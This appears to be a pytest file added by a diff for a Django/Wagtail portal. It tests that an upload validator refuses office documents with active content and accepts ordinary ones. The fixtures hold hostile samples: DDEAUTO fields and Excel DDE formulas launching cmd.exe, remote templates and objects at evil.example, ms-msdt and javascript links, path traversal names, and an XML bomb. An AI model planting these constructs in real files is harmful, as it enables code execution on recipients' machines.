@@ -1,0 +1,371 @@
+"""FAULTS 11: an editor's office file with a program, an object or a part that lies elsewhere is refused in words.
+
+Ordinary files of the same kinds are taken. Each hostile file is an ordinary one with one thing changed, so the ordinary
+one is its control.
+"""
+
+import io
+import zipfile
+from collections.abc import Callable
+from typing import Any
+
+import openpyxl
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
+from openpyxl.chart import BarChart, Reference
+from wagtail.documents.models import Document
+
+from portal.core.files.documents import check_document
+from portal.core.files.exceptions import FileRefused
+from tests.cms_pages.editing import staff
+
+Parts = dict[str, bytes]
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100
+SPACES = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def archive(parts: Parts, *, stored: tuple[str, ...] = ("mimetype",)) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
+        for name, content in parts.items():
+            made.writestr(name, content, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
+    return out.getvalue()
+
+
+def types(*more: str, main: str = "wordprocessingml.document") -> bytes:
+    return (
+        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        '<Default Extension="xml" ContentType="application/xml"/>'
+        '<Override PartName="/word/document.xml"'
+        f' ContentType="application/vnd.openxmlformats-officedocument.{main}.main+xml"/>{"".join(more)}</Types>'
+    ).encode()
+
+
+def relations(*rows: str) -> bytes:
+    space = "http://schemas.openxmlformats.org/package/2006/relationships"
+    return f'<Relationships xmlns="{space}">{"".join(rows)}</Relationships>'.encode()
+
+
+def relation(kind: str, target: str, *, external: bool = False) -> str:
+    full = kind if "/" in kind else OFFICE + kind
+    mode = ' TargetMode="External"' if external else ""
+    return f'<Relationship Id="r1" Type="{full}" Target="{target}"{mode}/>'
+
+
+def word(body: str = "", *rows: str, more: Parts | None = None, declared: bytes = b"") -> bytes:
+    return archive(
+        {
+            "[Content_Types].xml": declared or types(),
+            "_rels/.rels": relations(relation("officeDocument", "word/document.xml")),
+            "word/document.xml": f"<w:document {SPACES}><w:body><w:p>{body}</w:p></w:body></w:document>".encode(),
+            "word/_rels/document.xml.rels": relations(*rows),
+            **(more or {}),
+        }
+    )
+
+
+def field(*texts: str) -> str:
+    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
+    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+
+
+def sheet(change: Callable[[Any], None] = lambda book: None) -> bytes:
+    book = openpyxl.Workbook()
+    book.active.append(["Улица", 12])
+    change(book)
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def changed(content: bytes, name: str, old: bytes, new: bytes) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(content)) as source:
+        parts = {entry.filename: source.read(entry) for entry in source.infolist()}
+    assert old in parts[name]
+    return archive(parts | {name: parts[name].replace(old, new)})
+
+
+def text(content: str = "", *, more: Parts | None = None, kind: str = "text") -> bytes:
+    return archive(
+        {
+            "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
+            "content.xml": (
+                '<office:document-content xmlns:office="o" xmlns:text="t" xmlns:xlink="x" xmlns:draw="d"'
+                f' xmlns:script="s" xmlns:table="b"><office:scripts/><office:body>{content}'
+                "</office:body></office:document-content>"
+            ).encode(),
+            "META-INF/manifest.xml": b'<manifest:manifest xmlns:manifest="m"/>',
+            **(more or {}),
+        }
+    )
+
+
+def rtf(body: str) -> bytes:
+    return rb"{\rtf1\ansi " + body.encode("cp1251") + b"}"
+
+
+def formula(value: str) -> bytes:
+    return changed(sheet(lambda book: book.active.append(["=1+1"])), "xl/worksheets/sheet1.xml", b"1+1", value.encode())
+
+
+def chart(book: Any) -> None:
+    made = BarChart()
+    made.add_data(Reference(book.active, min_col=2, min_row=1))
+    book.active.add_chart(made)
+
+
+EMPTY = archive({"a.txt": b"x"})
+ORDINARY = {
+    "docx": ("a.docx", word("<w:r><w:t>Решение</w:t></w:r>")),
+    "docx with links": ("a.docx", word("", relation("hyperlink", "https://gov.ru", external=True))),
+    "docx with a link to a law": ("a.docx", word("", relation("hyperlink", "consultantplus://x", external=True))),
+    "docx with fields": ("a.docx", word(field(" PAGE ") + field(' HYPERLINK "https://gov.ru" ') + field(" TOC \\o "))),
+    "docx with a chart": ("a.docx", word(more={"word/embeddings/a.xlsx": sheet()})),
+    "docx in capitals": ("A.DOCX", word()),
+    "xlsx": ("a.xlsx", sheet()),
+    "xlsx with a chart": ("a.xlsx", sheet(chart)),
+    "xlsx with formulas": ("a.xlsx", formula("SUM(B1:B9)&amp;HYPERLINK(&quot;https://gov.ru&quot;)")),
+    "odt": ("a.odt", text("<text:a xlink:href='https://gov.ru'>x</text:a><draw:image xlink:href='Pictures/1.png'/>")),
+    "odt with an empty library": ("a.odt", text(more={"Basic/Standard/script-lb.xml": b"<library/>"})),
+    "ods": ("a.ods", text("<table:table table:formula='of:=SUM([.A1])'/>", kind="spreadsheet")),
+    "rtf": ("a.rtf", rtf(r'Решение {\field{\*\fldinst HYPERLINK "https://gov.ru"}{\fldrslt x}}')),
+    "txt": ("a.txt", "Решение < 5 м³ & больше".encode()),
+    "txt of Windows": ("a.txt", "Решение".encode("cp1251")),
+    "txt of Notepad": ("a.txt", "Решение".encode("utf-16")),
+}
+
+DOCX = {
+    "a macro": word(more={"word/vbaProject.bin": OLE}),
+    "a macro by its type": word(
+        declared=types('<Override PartName="/a" ContentType="application/vnd.ms-office.vbaProject"/>')
+    ),
+    "a macro under another name": word("", relation(MICROSOFT + "vbaProject", "a.xml"), more={"word/a.xml": b"<a/>"}),
+    "a macro in a picture": word(more={"word/media/image1.png": OLE}),
+    "a program": word(more={"word/media/image1.png": b"MZ" + b"\0" * 99}),
+    "a document with macros, renamed": word(
+        declared=types(main="x").replace(b"openxmlformats-officedocument.x.main", b"ms-word.document.macroEnabled.main")
+    ),
+    "a template": word("", relation("attachedTemplate", "https://evil.example/a.dotm", external=True)),
+    "a template on this machine": word("", relation("attachedTemplate", "file:///C:/a.dotx", external=True)),
+    "an object": word("", relation("oleObject", "embeddings/oleObject1.bin")),
+    "an object elsewhere": word("", relation("oleObject", "https://evil.example/a", external=True)),
+    "ActiveX": word("", relation("control", "activeX/activeX1.xml")),
+    "a picture elsewhere": word("", relation("image", "https://evil.example/a.png", external=True)),
+    "a picture by an address without a mode": word("", relation("image", "https://evil.example/a.png")),
+    "a frame": word("", relation("frame", "https://evil.example/", external=True)),
+    "another document": word("", relation("aFChunk", "a.docx")),
+    "another document as an element": word("<w:altChunk/>"),
+    "a page of the web": word(more={"word/a.html": b"<script>"}),
+    "DDE": word(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
+    "DDE in pieces": word(field(" D", "DE", "AUTO", " cmd ")),
+    "DDE in small letters": word(field(" ddeauto cmd ")),
+    "DDE as a simple field": word('<w:fldSimple w:instr=" DDE cmd "/>'),
+    "DDE without an end": word('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:instrText>DDE cmd</w:instrText>'),
+    "DDE put together by a field": word(field(" QUOTE 68 68 69 ")),
+    "a field of a field": word(
+        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{field(" SET a b ")}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    ),
+    "a text elsewhere": word(field(' INCLUDETEXT "\\\\\\\\evil\\\\a.docx" ')),
+    "a link to a program": word(field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" ')),
+    "a link to a share": word("", relation("hyperlink", "file://///evil/share", external=True)),
+    "a link with a program": word("", relation("hyperlink", "javascript:alert(1)", external=True)),
+    "a link to a diagnostic tool": word("", relation("hyperlink", "ms-msdt:/id", external=True)),
+    "another prefix": word().replace(b"x", b"x")
+    and archive(
+        {
+            "[Content_Types].xml": types(),
+            "word/document.xml": b'<z:document xmlns:z="x"><z:altChunk/></z:document>',
+        }
+    ),
+    "UTF-16": archive(
+        {
+            "[Content_Types].xml": types(),
+            "word/document.xml": '<?xml version="1.0" encoding="utf-16"?><a><altChunk/></a>'.encode("utf-16"),
+        }
+    ),
+    "names that lead out": word(more={"../../a.xml": b"<a/>"}),
+    "an absolute name": word(more={"/etc/a.xml": b"<a/>"}),
+    "a name of Windows": word(more={"word\\..\\a.xml": b"<a/>"}),
+    "a program inside of a chart's numbers": word(
+        more={"word/embeddings/a.xlsx": formula("WEBSERVICE(&quot;https://evil.example&quot;)")}
+    ),
+}
+XLSX = {
+    "DDE": formula("cmd|'/c calc'!A0"),
+    "DDE with words before it": formula("1+MSEXCEL|&apos;\\..\\cmd.exe&apos;!A"),
+    "a web service": formula("WEBSERVICE(&quot;https://evil.example&quot;)"),
+    "a link to a program": formula("HYPERLINK(&quot;file:///c:/a.exe&quot;)"),
+    "a macro sheet": changed(
+        sheet(),
+        "[Content_Types].xml",
+        b"</Types>",
+        b'<Override PartName="/a" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
+    ),
+    "a macro": archive({"[Content_Types].xml": types(main="spreadsheetml.sheet"), "xl/vbaProject.bin": OLE}),
+    "a link to another book": changed(
+        sheet(),
+        "xl/_rels/workbook.xml.rels",
+        b"</Relationships>",
+        relation("externalLink", "externalLinks/externalLink1.xml").encode() + b"</Relationships>",
+    ),
+    "a connection": changed(
+        sheet(),
+        "xl/_rels/workbook.xml.rels",
+        b"</Relationships>",
+        relation("connections", "connections.xml").encode() + b"</Relationships>",
+    ),
+    "a DDE link": archive(
+        {
+            "[Content_Types].xml": types(main="spreadsheetml.sheet"),
+            "xl/externalLinks/a.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>",
+        }
+    ),
+}
+ODT = {
+    "a macro": text(more={"Basic/Standard/Module1.xml": b"<module/>"}),
+    "a script": text(more={"Scripts/python/a.py": b"import os"}),
+    "a script in the content": text("<office:script script:language='x'/>"),
+    "an event": text("<script:event-listener xlink:href='vnd.sun.star.script:a'/>"),
+    "an object": text(more={"Object 1": OLE}),
+    "an object as an element": text("<draw:object-ole xlink:href='./Object 1'/>"),
+    "a picture elsewhere": text("<draw:image xlink:href='https://evil.example/a.png'/>"),
+    "a picture on a share": text("<draw:image xlink:href='\\\\evil\\a.png'/>"),
+    "a section elsewhere": text("<text:section-source xlink:href='../a.odt'/>"),
+    "a frame": text("<draw:floating-frame xlink:href='https://evil.example'/>"),
+    "DDE": text("<text:dde-connection-decl office:dde-application='cmd'/>"),
+    "DDE as a formula": text(
+        "<table:table-cell table:formula='of:=DDE(&quot;cmd&quot;;&quot;a&quot;;&quot;b&quot;)'/>"
+    ),
+    "a link to a program": text("<text:a xlink:href='file:///c:/a.exe'/>"),
+}
+RTF = {
+    "an object": rtf(r"{\object\objemb{\*\objdata 0105}}"),
+    "an object's data alone": rtf(r"{\*\objdata 0105}"),
+    "an object over lines": rtf("{\\object\r\n\\objupdate}"),
+    "a template": rtf(r"{\*\template https://evil.example/a.dotm}"),
+    "binary data": rtf(r"{\pict\bin4 abcd}"),
+    "DDE": rtf(r"{\field{\*\fldinst DDEAUTO cmd}}"),
+    "DDE in groups": rtf(r"{\field{\*\fldinst {\b D}{\i DE}AUTO cmd}}"),
+    "DDE in codes": rtf(r"{\field{\*\fldinst \'44\'44\u69?AUTO cmd}}"),
+    "a picture elsewhere": rtf(r'{\field{\*\fldinst INCLUDEPICTURE "https://evil.example/a.png"}}'),
+    "markup": rtf("<script>alert(1)</script>"),
+}
+HOSTILE = {
+    f"{name}: {what}": (f"a.{name}", content)
+    for name, cases in (("docx", DOCX), ("xlsx", XLSX), ("odt", ODT), ("rtf", RTF))
+    for what, content in cases.items()
+} | {
+    "txt: markup": ("a.txt", b"<script>alert(1)</script>"),
+    "txt: markup below": ("a.txt", b"words\n" * 500 + b"<!DOCTYPE html>"),
+    "txt: markup in UTF-16": ("a.txt", "<html>".encode("utf-16")),
+}
+BOMB = b"<a>" + b" " * (101 * 1024 * 1024) + b"</a>"
+ENTITIES = b'<!DOCTYPE a [<!ENTITY b "cc">]><a>&b;</a>'
+OTHERWISE = {
+    "html named docx": ("a.docx", b"<html><script>alert(1)</script></html>", "wrong_suffix"),
+    "html named rtf": ("a.rtf", b"<html>", "wrong_suffix"),
+    "html named xlsx": ("a.xlsx", b"<table>", "wrong_suffix"),
+    "a zip named docx": ("a.docx", EMPTY, "wrong_suffix"),
+    "an xlsx named docx": ("a.docx", sheet(), "wrong_suffix"),
+    "an odt named ods": ("a.ods", text(), "wrong_suffix"),
+    "a pdf named txt": ("a.txt", b"%PDF-1.7", "wrong_suffix"),
+    "a program named txt": ("a.txt", b"MZ\x90", "wrong_suffix"),
+    "NUL in a txt": ("a.txt", b"a\0b", "wrong_suffix"),
+    "NUL in an rtf": ("a.rtf", rtf("a\0b"), "broken"),
+    "an old document": ("a.docx", OLE, "wrong_suffix"),
+    "an empty file": ("a.txt", b"", "empty"),
+    "no suffix": ("docx", word(), "wrong_suffix"),
+    "entities": ("a.docx", word(more={"word/a.xml": ENTITIES}), "broken"),
+    "broken XML": ("a.docx", word(more={"word/a.xml": b"<a>"}), "broken"),
+    "half an archive": ("a.docx", word()[:-30], "broken"),
+    "an archive before the archive": ("a.docx", EMPTY + word(), "broken"),
+    "one name twice": ("a.docx", word(more={"WORD/document.xml": b"<a/>"}), "broken"),
+    "many entries": ("a.docx", word(more={f"word/{number}.xml": b"" for number in range(5001)}), "too_complex"),
+    "encrypted text": ("a.odt", text(more={"META-INF/a.xml": b"<encryption-data/>"}), "encrypted"),
+}
+
+
+def refusal(name: str, content: bytes) -> str:
+    try:
+        check_document(content, name)
+    except FileRefused as refused:
+        return refused.code
+    return ""
+
+
+@pytest.mark.parametrize(("name", "content"), ORDINARY.values(), ids=ORDINARY)
+def test_an_ordinary_document_is_taken(name: str, content: bytes) -> None:
+    assert refusal(name, content) == ""
+
+
+@pytest.mark.parametrize(("name", "content"), HOSTILE.values(), ids=HOSTILE)
+def test_a_program_or_what_lies_elsewhere_is_seen(name: str, content: bytes) -> None:
+    assert refusal(name, content) == "active_content"
+
+
+@pytest.mark.parametrize(("name", "content", "code"), OTHERWISE.values(), ids=OTHERWISE)
+def test_what_is_not_what_its_name_says_is_refused(name: str, content: bytes, code: str) -> None:
+    assert refusal(name, content) == code
+
+
+def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
+    assert refusal("a.xlsx", archive({"[Content_Types].xml": types(), "xl/a.xml": BOMB})) == "too_complex"
+
+
+def test_an_encrypted_archive_is_refused() -> None:
+    content = bytearray(word())
+    for mark, place in ((b"PK\1\2", 8), (b"PK\3\4", 6)):
+        content[content.find(mark) + place] |= 1
+    assert refusal("a.docx", bytes(content)) == "encrypted"
+
+
+def test_a_size_that_the_archive_understates_is_not_believed() -> None:
+    content = bytearray(archive({"[Content_Types].xml": types(), "word/a.xml": b"<a>" + b" " * 9999 + b"</a>"}))
+    at = content.rfind(b"PK\1\2") + 24
+    content[at : at + 4] = (50).to_bytes(4, "little")
+    assert refusal("a.docx", bytes(content)) == "broken"
+
+
+@pytest.mark.django_db
+class TestAtTheForm:
+    @pytest.fixture
+    def editor(self) -> Client:
+        client = Client()
+        client.force_login(staff("editor"))
+        return client
+
+    def posted(self, editor: Client, name: str, content: bytes) -> str:
+        data = {"title": "Файл", "file": SimpleUploadedFile(name, content)}
+        return editor.post("/admin/documents/add/", data, follow=True).content.decode()
+
+    def test_the_reason_is_said_and_nothing_is_stored(self, editor: Client) -> None:
+        html = self.posted(editor, "a.docx", DOCX["DDE"])
+        assert "a.docx: содержит программу" in html
+        assert not Document.objects.exists()
+
+    @pytest.mark.parametrize("ending", ["docx", "xlsx", "txt"])
+    def test_the_limit_that_is_said_is_the_limit_that_holds(self, editor: Client, settings: Any, ending: str) -> None:
+        settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1024 * 1024
+        html = self.posted(editor, f"a.{ending}", b"x" * (1024 * 1024 + 1))
+        assert "1,0 МБ" in html.replace("\u00a0", " ")
+        assert not Document.objects.exists()
+
+    def test_a_replaced_file_is_looked_into_too(self, editor: Client) -> None:
+        self.posted(editor, "a.docx", word())
+        document = Document.objects.get()
+        data = {"title": "Файл", "file": SimpleUploadedFile("b.docx", DOCX["DDE"])}
+        editor.post(f"/admin/documents/edit/{document.pk}/", data)
+        document.refresh_from_db()
+        assert document.filename.startswith("a")
+
+    @pytest.mark.parametrize("address", ["/admin/documents/multiple/add/", "/admin/documents/chooser/create/"])
+    def test_other_forms_look_into_it_too(self, editor: Client, address: str) -> None:
+        upload = SimpleUploadedFile("a.docx", DOCX["DDE"])
+        name = "files[]" if "multiple" in address else "document-chooser-upload-file"
+        data = {name: upload, "title": "x", "document-chooser-upload-title": "x"}
+        editor.post(address, data, headers={"X-Requested-With": "XMLHttpRequest"})
+        assert not Document.objects.exists()
